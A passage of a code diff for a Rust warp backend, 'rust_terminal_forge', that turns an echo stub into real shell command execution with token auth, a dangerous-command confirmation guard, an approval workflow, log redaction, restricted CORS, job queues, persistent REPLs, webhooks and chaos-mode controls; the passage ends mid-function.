@@ -1,44 +1,166 @@
 use warp::Filter;
 use serde::{Deserialize, Serialize};
 use serde_json::json;
-use log::{info, error, debug};
+use log::{info, error, warn, debug};
 use std::convert::Infallible;
+use std::path::Path;
+use std::time::{Duration, Instant};
+use warp::http::StatusCode;
+use warp::reply::{Json, WithStatus};
+use warp::Reply;
+
+use rust_terminal_forge::admin::{self, AdminRejection};
+use rust_terminal_forge::approvals::{Approval, ApprovalError, ApprovalStatus, Approvals};
+use rust_terminal_forge::base_path::BasePath;
+use rust_terminal_forge::chaos::{Chaos, ChaosSettings};
+use rust_terminal_forge::command_guard::{CommandGuard, GuardVerdict};
+use rust_terminal_forge::config::ForgeConfig;
+use rust_terminal_forge::error_catalog::{self, ClientError};
+use rust_terminal_forge::exec_jobs::{ExecJob, ExecJobs, JobStatus};
+use rust_terminal_forge::executor::{Capture, ExecError, Executor, OutputEvent, Ticket};
+use rust_terminal_forge::log_control::{self, LogControl, LogLevelRequest};
+use rust_terminal_forge::origins::AllowedOrigins;
+use rust_terminal_forge::policy::{self, CommandSpec, ExecMode, PolicyVerdict};
+use rust_terminal_forge::preflight::{self, Preflight};
+use rust_terminal_forge::redaction::{self, Redactor};
+use rust_terminal_forge::repl::{ReplError, ReplManager};
+use rust_terminal_forge::session_tmp::TmpDirs;
+use rust_terminal_forge::shell_env::ShellEnv;
+use rust_terminal_forge::templates::Templates;
+use rust_terminal_forge::webhooks::{WebhookEvent, Webhooks};
 
 #[derive(Debug, Deserialize)]
 struct ExecuteRequest {
+    command: CommandSpec,
+    /// `"events"` for one timestamped timeline of both streams instead of `output` and `stderr`.
+    #[serde(default)]
+    capture: Capture,
+    confirmation_token: Option<String>,
+    /// Who is asking, for the approval audit trail; self-reported.
+    requested_by: Option<String>,
+}
+
+/// What `POST /api/execute` works with besides the request itself.
+#[derive(Clone)]
+struct ExecuteState {
+    executor: Executor,
+    guard: CommandGuard,
+    approvals: Approvals,
+    webhooks: Webhooks,
+    base_path: BasePath,
+    jobs: ExecJobs,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ApprovalDecisionRequest {
+    /// Recorded next to the admin token in the audit log.
+    approver: Option<String>,
+}
+
+#[derive(Debug, Deserialize)]
+struct ValidateRequest {
+    command: CommandSpec,
+}
+
+#[derive(Debug, Default, Deserialize)]
+#[serde(deny_unknown_fields)]
+struct ReplCreateRequest {
+    /// Sourced after the configured init script; needs `repl.allow_client_init`.
+    init: Option<String>,
+}
+
+#[derive(Debug, Deserialize)]
+struct ReplExecRequest {
     command: String,
+    confirmation_token: Option<String>,
 }
 
 #[derive(Debug, Serialize)]
 struct ExecuteResponse {
+    /// What the command wrote to stdout.
     output: String,
+    stderr: String,
     exit_code: i32,
+    /// Under `capture: "events"`, both streams in the order they were read.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    events: Option<Vec<OutputEvent>>,
+    /// Events dropped, oldest first, to stay within `[execute] max_output_bytes`.
+    #[serde(skip_serializing_if = "Option::is_none")]
+    dropped_events: Option<usize>,
+    /// Set when `output` or `stderr` was cut at `[execute] max_output_bytes`, or `events` were.
+    truncated: bool,
+    /// How long the command waited for one of `[execute] max_concurrent` slots.
+    queue_wait_ms: u64,
+    mode: ExecMode,
     timestamp: String,
 }
 
 #[tokio::main]
 async fn main() {
-    env_logger::Builder::from_default_env()
-        .filter_level(log::LevelFilter::Debug)
-        .init();
+    let log_control = LogControl::init("debug");
+    let chaos = Chaos::from_args(std::env::args()).unwrap_or_else(|e| {
+        error!("💥 {}", e);
+        std::process::exit(1);
+    });
+
+    let base_path = BasePath::from_args(std::env::args()).unwrap_or_else(|e| {
+        error!("💥 {}", e);
+        std::process::exit(1);
+    });
+    let config = ForgeConfig::load().unwrap_or_else(|e| {
+        error!("💥 {}", e);
+        std::process::exit(1);
+    });
+    let guard = CommandGuard::from_config(&config.dangerous_commands).unwrap_or_else(|e| {
+        error!("💥 {}", e);
+        std::process::exit(1);
+    });
+    let approvals = Approvals::from_config(&config.approvals).unwrap_or_else(|e| {
+        error!("💥 {}", e);
+        std::process::exit(1);
+    });
+    let webhooks = Webhooks::from_config(&config.webhooks).unwrap_or_else(|e| {
+        error!("💥 {}", e);
+        std::process::exit(1);
+    });
+    let templates = Templates::from_config(&config.templates).unwrap_or_else(|e| {
+        error!("💥 {}", e);
+        std::process::exit(1);
+    });
+    let origins = AllowedOrigins::from_config(&config.listen.allowed_origins).unwrap_or_else(|e| {
+        error!("💥 {}", e);
+        std::process::exit(1);
+    });
+    let redactor = Redactor::from_config(&config.redaction).unwrap_or_else(|e| {
+        error!("💥 {}", e);
+        std::process::exit(1);
+    });
+    redaction::install(redactor);
+    Preflight::new(&[preflight::STATIC_FILES, preflight::SHELLS]).log(&config);
+    #[cfg(unix)]
+    tokio::spawn(reload_redaction_on_sighup());
     
     info!("🚀 Rick's Rust Backend Server Starting...");
     info!("🔧 Initializing MAXIMUM LOGGING for interdimensional debugging!");
     
     // CORS configuration with logging
-    info!("🌐 Setting up CORS for interdimensional communication...");
-    let cors = warp::cors()
-        .allow_any_origin()
-        .allow_headers(vec!["content-type"])
-        .allow_methods(vec!["GET", "POST", "OPTIONS"]);
+    info!("🌐 Setting up CORS for {} allowed origins...", origins.iter().count());
+    let cors = cors(&origins);
 
     // Serve static files from dist directory with logging
     info!("📁 Setting up static file serving from ./dist/");
+    let index_base_path = base_path.clone();
     let static_files = warp::path::end()
-        .and(warp::fs::file("dist/index.html"))
-        .map(|reply| {
-            info!("📄 Serving index.html to client");
-            reply
+        .and_then(move || {
+            let base_path = index_base_path.clone();
+            async move {
+                let html = tokio::fs::read_to_string(Path::new(preflight::STATIC_DIR).join("index.html"))
+                    .await
+                    .map_err(|_| warp::reject::not_found())?;
+                info!("📄 Serving index.html to client");
+                Ok::<_, warp::Rejection>(warp::reply::html(base_path.inject(&html)))
+            }
         })
         .or(warp::fs::dir("dist")
             .map(|reply| {
@@ -49,16 +171,27 @@ async fn main() {
     // API routes
     let api = warp::path("api");
     
-    // Execute endpoint with request logging
-    let execute = api
-        .and(warp::path("execute"))
-        .and(warp::post())
-        .and(warp::body::json())
-        .map(|req: ExecuteRequest| {
-            info!("📨 Received execute request: {:?}", req);
-            req
-        })
-        .and_then(handle_execute);
+    let shell_env = ShellEnv::from_config(&config.shell_env);
+    shell_env.self_check();
+    let tmpdirs = TmpDirs::from_config(&config.tmpdir).unwrap_or_else(|e| {
+        error!("💥 {}", e);
+        std::process::exit(1);
+    });
+    match &tmpdirs {
+        Some(tmpdirs) => info!("🗂️ REPL shells get their own TMPDIR under {}", tmpdirs.root().display()),
+        None => info!("🗂️ REPL shells share the system TMPDIR"),
+    }
+    let executor = Executor::from_config(&config.execute).with_shell_env(shell_env.clone());
+    info!("⏱️ /api/execute runs shell commands with {} and kills them after {:?}", config.execute.shell, executor.timeout());
+    info!("🎟️ /api/execute runs {} commands at once, with up to {} more waiting", config.execute.max_concurrent.max(1), config.execute.max_queued);
+    let repls = ReplManager::new(config.repl.clone()).with_shell_env(shell_env).with_tmpdirs(tmpdirs);
+    repls.spawn_reaper(Duration::from_secs(30));
+
+    // Execute and dry-run validation endpoints with request logging
+    let execute = execute_routes(executor, guard.clone(), approvals.clone(), webhooks.clone(), base_path.clone());
+
+    // Persistent REPL shells
+    let repl = repl_routes(repls, guard, approvals, webhooks.clone());
 
     // Health check with logging
     let health = api
@@ -73,6 +206,85 @@ async fn main() {
             }))
         });
 
+    // Session templates for the "new terminal" menu
+    let templates = api
+        .and(warp::path("templates"))
+        .and(warp::path::end())
+        .and(warp::get())
+        .map(move || {
+            info!("🧬 Listing session templates");
+            warp::reply::json(&templates.summaries())
+        });
+
+    // Error catalog, so the frontend can translate ahead of time
+    let errors = api
+        .and(warp::path("errors"))
+        .and(warp::path::end())
+        .and(warp::get())
+        .map(|| {
+            info!("📚 Error catalog requested");
+            warp::reply::json(&error_catalog_body())
+        });
+
+    // Admin routes (bearer token from FORGE_ADMIN_TOKEN)
+    let admin = warp::path("admin").and(admin::require_admin());
+    let log_control = warp::any().map(move || log_control.clone());
+
+    let get_log_level = admin
+        .clone()
+        .and(warp::path("log-level"))
+        .and(warp::get())
+        .and(log_control.clone())
+        .map(|control: LogControl| {
+            info!("🎚️ Log level status requested");
+            warp::reply::json(&control.status())
+        });
+
+    let webhook_status = admin
+        .clone()
+        .and(warp::path("webhooks"))
+        .and(warp::get())
+        .map({
+            let webhooks = webhooks.clone();
+            move || {
+                info!("🪝 Webhook metrics requested");
+                warp::reply::json(&json!({
+                    "endpoints": webhooks.len(),
+                    "metrics": webhooks.metrics()
+                }))
+            }
+        });
+
+    let chaos_enabled = chaos.is_enabled();
+    let chaos_status = admin
+        .clone()
+        .and(warp::path("chaos"))
+        .and(warp::get())
+        .map({
+            let chaos = chaos.clone();
+            move || warp::reply::json(&json!({ "enabled": chaos.is_enabled(), "settings": chaos.settings(None) }))
+        });
+
+    let put_chaos = admin
+        .clone()
+        .and(warp::path("chaos"))
+        .and(warp::put())
+        .and(warp::body::json())
+        .map({
+            let chaos = chaos.clone();
+            move |settings: ChaosSettings| match chaos.set(None, settings.clone()) {
+                Ok(()) => warp::reply::with_status(warp::reply::json(&settings), StatusCode::OK),
+                Err(e) => error_reply(StatusCode::CONFLICT, ClientError::from(&e)),
+            }
+        });
+
+    let put_log_level = admin
+        .and(warp::path("log-level"))
+        .and(warp::put())
+        .and(warp::body::json())
+        .and(log_control)
+        .and_then(handle_set_log_level);
+
     // Add request logging filter
     let log_requests = warp::log::custom(|info| {
         info!("🌐 {} {} {:?} - Status: {} - Duration: {:?}", 
@@ -85,79 +297,1034 @@ async fn main() {
     });
     
     // Combine all routes with comprehensive logging
-    let routes = static_files
-        .or(execute)
-        .or(health)
+    let routes = base_path
+        .filter()
+        .and(
+            static_files
+                .or(chaos_gate(chaos, base_path.clone()).and(execute.or(repl).or(health).or(templates).or(errors)))
+                .or(get_log_level)
+                .or(put_log_level)
+                .or(webhook_status)
+                .or(chaos_status)
+                .or(put_chaos),
+        )
         .with(cors)
         .with(log_requests)
-        .recover(handle_rejection);
+        .recover(move |err| handle_rejection(err, webhooks.clone()));
+
+    let (addr, server) = warp::serve(routes).try_bind_ephemeral(config.listen.api).unwrap_or_else(|e| {
+        error!("💥 Failed to bind {}: {}", config.listen.api, e);
+        std::process::exit(1);
+    });
+    // Plain line among the logs, for scripts and the e2e harness started with port 0.
+    println!("listening on {}", addr);
 
-    info!("🔥 Backend server running on port 3001");
+    info!("🔥 Backend server running on {}", addr);
+    if !base_path.is_root() {
+        info!("🪧 Mounted under {}; un-prefixed paths get a 404", base_path.as_str());
+    }
     info!("📁 Serving static files from ./dist/");
-    info!("🌐 API available at http://localhost:3001/api/");
-    info!("💊 Health check at http://localhost:3001/api/health");
+    info!("🌐 API available at http://{}{}", addr, base_path.url("/api/"));
+    info!("💊 Health check at http://{}{}", addr, base_path.url("/api/health"));
+    info!("🐚 Persistent REPLs at http://{}{}", addr, base_path.url("/api/repl"));
+    info!("🧬 Session templates at http://{}{}", addr, base_path.url("/api/templates"));
+    info!("📚 Error catalog at http://{}{}", addr, base_path.url("/api/errors"));
+    info!("🎚️ Runtime log level at http://{}{}", addr, base_path.url("/admin/log-level"));
+    info!("🪝 Webhook delivery metrics at http://{}{}", addr, base_path.url("/admin/webhooks"));
+    if chaos_enabled {
+        info!("🌀 Chaos controls at http://{}{}", addr, base_path.url("/admin/chaos"));
+    }
     info!("🐛 DEBUG MODE: All requests will be logged extensively");
     info!("🚀 Ready to receive interdimensional communications!");
     
-    warp::serve(routes)
-        .run(([0, 0, 0, 0], 3001))
-        .await;
+    server.await;
 }
 
-async fn handle_execute(req: ExecuteRequest) -> Result<impl warp::Reply, warp::Rejection> {
-    info!("🧪 EXECUTE REQUEST START: {:?}", req);
-    info!("📝 Command length: {} chars", req.command.len());
-    info!("🔍 Command content: '{}'", req.command);
-    
-    // For now, just echo back the command with Rick's style
-    let output = format!(
-        "🧪 Rick's Rust Terminal Processed: {}\n\
-        Wubba Lubba Dub Dub! Command executed in interdimensional Rust space!\n\
-        (This is a simulation until we hook up the real command processor)\n\
-        📊 Request processed at: {}",
-        req.command,
-        chrono::Utc::now().format("%Y-%m-%d %H:%M:%S UTC")
-    );
-    
-    let response = ExecuteResponse {
-        output: output.clone(),
-        exit_code: 0,
-        timestamp: chrono::Utc::now().to_rfc3339(),
+/// Every catalog entry with the parameters its message takes.
+fn error_catalog_body() -> serde_json::Value {
+    let errors: Vec<serde_json::Value> = error_catalog::CATALOG
+        .iter()
+        .map(|entry| json!({ "code": entry.code, "message": entry.message, "params": error_catalog::placeholders(entry.message) }))
+        .collect();
+    json!({ "errors": errors })
+}
+
+/// Re-reads the `[redaction]` rules whenever the process receives SIGHUP.
+#[cfg(unix)]
+async fn reload_redaction_on_sighup() {
+    use tokio::signal::unix::{signal, SignalKind};
+
+    let mut hangups = match signal(SignalKind::hangup()) {
+        Ok(hangups) => hangups,
+        Err(e) => {
+            warn!("⚠️ SIGHUP reload unavailable: {}", e);
+            return;
+        }
     };
-    
+    while hangups.recv().await.is_some() {
+        match redaction::reload() {
+            Ok(count) => info!("🔄 SIGHUP: {} redaction patterns loaded", count),
+            Err(e) => warn!("⚠️ SIGHUP: keeping previous redaction patterns, {}", e),
+        }
+    }
+}
+
+/// Browsers only get answers for pages from `origins`; everything else is refused with
+/// `origin_not_allowed`.
+fn cors(origins: &AllowedOrigins) -> warp::cors::Builder {
+    warp::cors()
+        .allow_origins(origins.iter())
+        .allow_headers(vec!["content-type", "authorization", "prefer"])
+        .allow_methods(vec!["GET", "POST", "PUT", "DELETE", "OPTIONS"])
+}
+
+fn execute_routes(
+    executor: Executor,
+    guard: CommandGuard,
+    approvals: Approvals,
+    webhooks: Webhooks,
+    base_path: BasePath,
+) -> impl Filter<Extract = (impl warp::Reply,), Error = warp::Rejection> + Clone {
+    let jobs = ExecJobs::default();
+    let state = ExecuteState {
+        executor: executor.clone(),
+        guard: guard.clone(),
+        approvals: approvals.clone(),
+        webhooks,
+        base_path,
+        jobs: jobs.clone(),
+    };
+    let with_executor = warp::any().map(move || executor.clone());
+    let with_guard = warp::any().map(move || guard.clone());
+    let with_approvals = warp::any().map(move || approvals.clone());
+    let with_state = warp::any().map(move || state.clone());
+
+    let validate = warp::path!("api" / "execute" / "validate")
+        .and(warp::post())
+        .and(admin::require_api())
+        .and(warp::body::json())
+        .and(with_guard.clone())
+        .and(with_approvals.clone())
+        .map(|req: ValidateRequest, guard: CommandGuard, approvals: Approvals| {
+            info!("🔬 Received validate request: '{}'", redaction::redact(&req.command.command_line()));
+            let verdict = policy::evaluate_with_approvals(&guard, &approvals, &req.command);
+            info!("🔬 Verdict: allowed={} confirm={} approval={}", verdict.allowed, verdict.requires_confirmation, verdict.requires_approval);
+            warp::reply::json(&verdict)
+        });
+
+    let execute = warp::path!("api" / "execute")
+        .and(warp::post())
+        .and(admin::require_api())
+        .and(warp::body::json())
+        .map(|req: ExecuteRequest| {
+            info!("📨 Received execute request: '{}'", redaction::redact(&req.command.command_line()));
+            req
+        })
+        .and(warp::addr::remote())
+        .and(warp::header::optional::<String>("prefer"))
+        .and(with_state)
+        .and_then(handle_execute);
+
+    // A job's result is its command's output, so polling needs the API token too.
+    let poll_job = warp::path!("api" / "execute" / "jobs" / String)
+        .and(warp::get())
+        .and(admin::require_api())
+        .map(move |id: String| match jobs.get(&id) {
+            Some(job) => job_reply(&job),
+            None => error_reply(StatusCode::NOT_FOUND, ClientError::new("execute_job_not_found").with("id", id)),
+        });
+
+    // Approvers hold the admin token; requesters poll their request by its unguessable ID.
+    let list_approvals = warp::path!("api" / "approvals")
+        .and(warp::get())
+        .and(admin::require_admin())
+        .and(with_approvals.clone())
+        .map(|approvals: Approvals| {
+            info!("🗳️ Pending approvals requested");
+            warp::reply::json(&approvals.pending())
+        });
+
+    let poll_approval = warp::path!("api" / "approvals" / String)
+        .and(warp::get())
+        .and(with_approvals.clone())
+        .map(|id: String, approvals: Approvals| match approvals.get(&id) {
+            Ok(approval) => approval_reply(&approval),
+            Err(e) => approval_error_reply(e),
+        });
+
+    let decide = warp::path!("api" / "approvals" / String / String)
+        .and(warp::post())
+        .and(admin::require_admin())
+        .and(optional_json::<ApprovalDecisionRequest>())
+        .and(with_approvals)
+        .and(with_executor)
+        .and_then(handle_approval_decision);
+
+    validate.or(execute).or(poll_job).or(list_approvals).or(poll_approval).or(decide)
+}
+
+fn repl_routes(repls: ReplManager, guard: CommandGuard, approvals: Approvals, webhooks: Webhooks) -> impl Filter<Extract = (impl warp::Reply,), Error = warp::Rejection> + Clone {
+    let with_repls = warp::any().map(move || repls.clone());
+    let with_guard = warp::any().map(move || guard.clone());
+    let with_approvals = warp::any().map(move || approvals.clone());
+    let with_webhooks = warp::any().map(move || webhooks.clone());
+
+    let create = warp::path!("api" / "repl")
+        .and(warp::post())
+        .and(admin::require_api())
+        .and(warp::body::content_length_limit(64 * 1024))
+        .and(optional_json::<ReplCreateRequest>())
+        .and(with_repls.clone())
+        .and_then(|req: ReplCreateRequest, repls: ReplManager| async move {
+            let reply = match repls.create(req.init.as_deref()).await {
+                Ok(info) => warp::reply::with_status(warp::reply::json(&info), StatusCode::CREATED),
+                Err(e) => repl_error_reply(e),
+            };
+            Ok::<_, warp::Rejection>(reply)
+        });
+
+    let exec = warp::path!("api" / "repl" / String / "exec")
+        .and(warp::post())
+        .and(admin::require_api())
+        .and(warp::body::json())
+        .and(with_repls.clone())
+        .and(with_guard)
+        .and(with_approvals)
+        .and(with_webhooks)
+        .and_then(handle_repl_exec);
+
+    let close = warp::path!("api" / "repl" / String)
+        .and(warp::delete())
+        .and(admin::require_api())
+        .and(with_repls)
+        .map(|id: String, repls: ReplManager| match repls.close(&id) {
+            Ok(()) => warp::reply::with_status(warp::reply::json(&json!({ "id": id, "closed": true })), StatusCode::OK),
+            Err(e) => repl_error_reply(e),
+        });
+
+    create.or(exec).or(close)
+}
+
+async fn handle_repl_exec(
+    id: String,
+    req: ReplExecRequest,
+    repls: ReplManager,
+    guard: CommandGuard,
+    approvals: Approvals,
+    webhooks: Webhooks,
+) -> Result<WithStatus<Json>, warp::Rejection> {
+    info!("🐚 REPL {} exec: '{}'", id, redaction::redact(&req.command));
+    let spec = CommandSpec::Shell(req.command);
+    match enforce_policy(&guard, &approvals, &webhooks, &spec, req.confirmation_token.as_deref()) {
+        Err(reply) => return Ok(reply),
+        // A REPL can't hold a command for later; approval only works through /api/execute.
+        Ok(verdict) if verdict.requires_approval => {
+            warn!("🗳️ REPL {} refused a command that needs approval", id);
+            return Ok(error_reply(StatusCode::FORBIDDEN, ClientError::new("approval_via_execute")));
+        }
+        Ok(_) => {}
+    }
+
+    match repls.exec(&id, &spec.command_line()).await {
+        Ok(output) => {
+            info!("✅ REPL {} exit_code={}, output_length={}", id, output.exit_code, output.output.len());
+            Ok(warp::reply::with_status(
+                warp::reply::json(&json!({
+                    "output": output.output,
+                    "stderr": output.stderr,
+                    "exit_code": output.exit_code,
+                    "timestamp": chrono::Utc::now().to_rfc3339()
+                })),
+                StatusCode::OK,
+            ))
+        }
+        Err(e) => Ok(repl_error_reply(e)),
+    }
+}
+
+/// A 500 injected by `--chaos` mode.
+#[derive(Debug)]
+struct ChaosRejection;
+
+impl warp::reject::Reject for ChaosRejection {}
+
+/// Fails the configured share of `/api` calls while chaos mode is on.
+fn chaos_gate(chaos: Chaos, base_path: BasePath) -> impl Filter<Extract = (), Error = warp::Rejection> + Clone {
+    warp::path::full()
+        .and_then(move |path: warp::path::FullPath| {
+            let path = base_path.strip(path.as_str()).unwrap_or(path.as_str());
+            let fail = path.starts_with("/api/") && chaos.fail_api_call(path);
+            async move {
+                if fail {
+                    Err(warp::reject::custom(ChaosRejection))
+                } else {
+                    Ok(())
+                }
+            }
+        })
+        .untuple_one()
+}
+
+/// Request body that failed to parse as JSON.
+#[derive(Debug)]
+struct InvalidBody;
+
+impl warp::reject::Reject for InvalidBody {}
+
+/// JSON body that may be left out entirely; an empty body means `T::default()`.
+fn optional_json<T>() -> impl Filter<Extract = (T,), Error = warp::Rejection> + Clone
+where
+    T: serde::de::DeserializeOwned + Default + Send,
+{
+    warp::body::bytes().and_then(|body: bytes::Bytes| async move {
+        if body.iter().all(u8::is_ascii_whitespace) {
+            return Ok(T::default());
+        }
+        serde_json::from_slice(&body).map_err(|_| warp::reject::custom(InvalidBody))
+    })
+}
+
+fn exec_error_status(e: &ExecError) -> StatusCode {
+    match e {
+        ExecError::Spawn { .. } => StatusCode::INTERNAL_SERVER_ERROR,
+        ExecError::Timeout(_) => StatusCode::GATEWAY_TIMEOUT,
+        ExecError::QueueFull { .. } => StatusCode::TOO_MANY_REQUESTS,
+    }
+}
+
+/// The error reply for a command that did not run to completion; a full queue also says
+/// when to try again.
+fn exec_error_reply(e: &ExecError) -> warp::reply::Response {
+    let reply = error_reply(exec_error_status(e), ClientError::from(e));
+    match e {
+        ExecError::QueueFull { retry_after, .. } => warp::reply::with_header(reply, "retry-after", retry_after.as_secs().to_string()).into_response(),
+        _ => reply.into_response(),
+    }
+}
+
+fn repl_error_reply(e: ReplError) -> WithStatus<Json> {
+    let code = match e {
+        ReplError::NotFound(_) => StatusCode::NOT_FOUND,
+        ReplError::ClientInitDisabled => StatusCode::FORBIDDEN,
+        ReplError::InitScript { .. } => StatusCode::INTERNAL_SERVER_ERROR,
+        ReplError::LimitReached(_) => StatusCode::TOO_MANY_REQUESTS,
+        ReplError::Timeout(_) => StatusCode::GATEWAY_TIMEOUT,
+        ReplError::Spawn(_) | ReplError::Exited | ReplError::Io(_) => StatusCode::INTERNAL_SERVER_ERROR,
+    };
+    warn!("🐚 REPL request failed: {}", e);
+    error_reply(code, ClientError::from(&e))
+}
+
+fn approval_error_reply(e: ApprovalError) -> WithStatus<Json> {
+    let status = match e {
+        ApprovalError::NotFound(_) => StatusCode::NOT_FOUND,
+        ApprovalError::Expired(_) => StatusCode::GONE,
+        ApprovalError::AlreadyDecided { .. } => StatusCode::CONFLICT,
+    };
+    error_reply(status, ClientError::from(&e))
+}
+
+/// A request's state as its requester sees it: 202 while pending, 200 once approved and
+/// run, and distinct error codes for denied and expired requests.
+fn approval_reply(approval: &Approval) -> WithStatus<Json> {
+    let (status, code) = match approval.status {
+        ApprovalStatus::Pending => (StatusCode::ACCEPTED, None),
+        ApprovalStatus::Approved => (StatusCode::OK, None),
+        ApprovalStatus::Denied => (StatusCode::FORBIDDEN, Some("approval_denied")),
+        ApprovalStatus::Expired => (StatusCode::GONE, Some("approval_expired")),
+    };
+    let mut body = json!(approval);
+    if let Some(code) = code {
+        let error = ClientError::new(code).with("id", &approval.id);
+        body["code"] = json!(error.code);
+        body["error"] = json!(error.message);
+        body["params"] = json!(error.params);
+    }
+    warp::reply::with_status(warp::reply::json(&body), status)
+}
+
+/// A job as its caller sees it: 202 until its command has run, then 200 with the execute
+/// response, or the error body, as `result`.
+fn job_reply(job: &ExecJob) -> WithStatus<Json> {
+    let status = if job.status == JobStatus::Finished { StatusCode::OK } else { StatusCode::ACCEPTED };
+    warp::reply::with_status(warp::reply::json(job), status)
+}
+
+/// Whether a `Prefer` header (RFC 7240) asks for `respond-async`.
+fn prefers_async(prefer: &str) -> bool {
+    prefer
+        .split(',')
+        .filter_map(|preference| preference.split(';').next())
+        .any(|preference| preference.trim().eq_ignore_ascii_case("respond-async"))
+}
+
+async fn handle_approval_decision(
+    id: String,
+    action: String,
+    req: ApprovalDecisionRequest,
+    approvals: Approvals,
+    executor: Executor,
+) -> Result<WithStatus<Json>, warp::Rejection> {
+    let approve = match action.as_str() {
+        "approve" => true,
+        "deny" => false,
+        _ => return Err(warp::reject::not_found()),
+    };
+    let approver = match req.approver {
+        Some(name) => format!("{} (admin token)", name),
+        None => "admin token".to_string(),
+    };
+    let approval = match approvals.decide(&id, approve, &approver) {
+        Ok(approval) => approval,
+        Err(e) => return Ok(approval_error_reply(e)),
+    };
+    if approve {
+        // Runs exactly what was validated when the request came in.
+        match run_command(&executor, &approval.spec, approval.capture, approval.mode).await {
+            Ok(response) => {
+                info!("✅ Approved command {} ran: exit_code={}", id, response.exit_code);
+                approvals.record_result(&id, json!(response));
+            }
+            Err(e) => {
+                warn!("💥 Approved command {} failed: {}", id, e);
+                approvals.record_result(&id, error_body(exec_error_status(&e), &ClientError::from(&e)));
+            }
+        }
+    }
+    let approval = approvals.get(&id).unwrap_or(approval);
+    Ok(warp::reply::with_status(warp::reply::json(&approval), StatusCode::OK))
+}
+
+/// The catalog error as JSON; `error` keeps the rendered message for older clients.
+fn error_body(status: StatusCode, error: &ClientError) -> serde_json::Value {
+    json!({
+        "error": error.message,
+        "code": error.code,
+        "params": error.params,
+        "status": status.as_u16(),
+        "timestamp": chrono::Utc::now().to_rfc3339()
+    })
+}
+
+fn error_reply(status: StatusCode, error: ClientError) -> WithStatus<Json> {
+    warp::reply::with_status(warp::reply::json(&error_body(status, &error)), status)
+}
+
+/// Runs the shared policy pipeline. `Err` carries the 400/409 reply to send
+/// instead of running the command; commands that need approval come back `Ok`
+/// for the caller to hold.
+fn enforce_policy(
+    guard: &CommandGuard,
+    approvals: &Approvals,
+    webhooks: &Webhooks,
+    spec: &CommandSpec,
+    token: Option<&str>,
+) -> Result<PolicyVerdict, WithStatus<Json>> {
+    let verdict = policy::evaluate_with_approvals(guard, approvals, spec);
+    if !verdict.allowed {
+        let reason = verdict.reason.unwrap_or_default();
+        warn!("🚫 Command rejected by policy: {}", reason);
+        return Err(error_reply(StatusCode::BAD_REQUEST, ClientError::new("command_rejected").with("reason", reason)));
+    }
+
+    if verdict.requires_approval {
+        return Ok(verdict);
+    }
+    let Some(pattern) = verdict.confirmation_pattern() else {
+        return Ok(verdict);
+    };
+    let command_line = spec.command_line();
+    if let GuardVerdict::ConfirmRequired { pattern, token, expires_in } = guard.confirm(&command_line, pattern, token) {
+        warn!("☢️ Command matched dangerous pattern '{}', confirmation required", pattern);
+        let mut body = error_body(StatusCode::CONFLICT, &ClientError::new("confirmation_required"));
+        body["pattern"] = json!(pattern);
+        body["confirmation_token"] = json!(token);
+        body["expires_in_secs"] = json!(expires_in.as_secs());
+        return Err(warp::reply::with_status(warp::reply::json(&body), StatusCode::CONFLICT));
+    }
+
+    webhooks.emit(WebhookEvent::DangerousConfirmed {
+        session_id: None,
+        pattern: pattern.to_string(),
+        command: command_line,
+    });
+    Ok(verdict)
+}
+
+async fn handle_execute(
+    req: ExecuteRequest,
+    peer: Option<std::net::SocketAddr>,
+    prefer: Option<String>,
+    state: ExecuteState,
+) -> Result<warp::reply::Response, warp::Rejection> {
+    let ExecuteState { executor, guard, approvals, webhooks, base_path, jobs } = state;
+    let started = Instant::now();
+    let command_line = req.command.command_line();
+    info!("🧪 EXECUTE REQUEST START: '{}'", redaction::redact(&command_line));
+    info!("📝 Command length: {} chars ({:?} mode)", command_line.len(), req.command.mode());
+    info!("🔍 Command content: '{}'", redaction::redact(&command_line));
+
+    let verdict = match enforce_policy(&guard, &approvals, &webhooks, &req.command, req.confirmation_token.as_deref()) {
+        Ok(verdict) => verdict,
+        Err(reply) => return Ok(reply.into_response()),
+    };
+
+    if verdict.requires_approval {
+        let requester = format!(
+            "{} from {}",
+            req.requested_by.as_deref().unwrap_or("anonymous"),
+            peer.map_or_else(|| "unknown".to_string(), |addr| addr.to_string())
+        );
+        let approval = approvals.request(&req.command, req.capture, &verdict, &requester);
+        warn!("🗳️ Command matched approval pattern '{}', held as {}", approval.pattern, approval.id);
+        let mut body = error_body(StatusCode::ACCEPTED, &ClientError::new("approval_required"));
+        body["approval_id"] = json!(approval.id);
+        body["pattern"] = json!(approval.pattern);
+        body["expires_at"] = json!(approval.expires_at.to_rfc3339());
+        body["poll"] = json!(base_path.url(&format!("/api/approvals/{}", approval.id)));
+        return Ok(warp::reply::with_status(warp::reply::json(&body), StatusCode::ACCEPTED).into_response());
+    }
+
+    // Dropped with this future if the caller hangs up first, taking the command out of line.
+    let mut ticket = match executor.enqueue() {
+        Ok(ticket) => ticket,
+        Err(e) => {
+            warn!("🎟️ EXECUTE REFUSED: {}", e);
+            return Ok(exec_error_reply(&e));
+        }
+    };
+    let respond_async = prefer.as_deref().is_some_and(prefers_async);
+    let has_slot = match executor.async_after() {
+        _ if respond_async => false,
+        Some(wait) => tokio::time::timeout(wait, ticket.ready()).await.is_ok(),
+        None => {
+            ticket.ready().await;
+            true
+        }
+    };
+    if !has_slot {
+        let job = jobs.submit(&ticket, &req.command, verdict.mode);
+        info!("🎫 '{}' went on as job {} (position {:?})", job.command, job.id, job.position);
+        let id = job.id.clone();
+        tokio::spawn(async move {
+            let result = match run_queued(&executor, ticket, &req.command, req.capture, verdict.mode).await {
+                Ok(response) => {
+                    info!("✅ Execute job {} finished: exit_code={}", id, response.exit_code);
+                    webhooks.emit(WebhookEvent::ExecuteSlow {
+                        command: command_line,
+                        duration_ms: started.elapsed().as_millis() as u64,
+                        exit_code: response.exit_code,
+                    });
+                    json!(response)
+                }
+                Err(e) => {
+                    warn!("💥 Execute job {} failed: {}", id, e);
+                    error_body(exec_error_status(&e), &ClientError::from(&e))
+                }
+            };
+            jobs.finish(&id, result);
+        });
+        let body = json!({
+            "job_id": job.id,
+            "status": job.status,
+            "position": job.position,
+            "poll": base_path.url(&format!("/api/execute/jobs/{}", job.id)),
+        });
+        let reply = warp::reply::with_status(warp::reply::json(&body), StatusCode::ACCEPTED);
+        if respond_async {
+            return Ok(warp::reply::with_header(reply, "preference-applied", "respond-async").into_response());
+        }
+        return Ok(reply.into_response());
+    }
+
+    let response = match run_queued(&executor, ticket, &req.command, req.capture, verdict.mode).await {
+        Ok(response) => response,
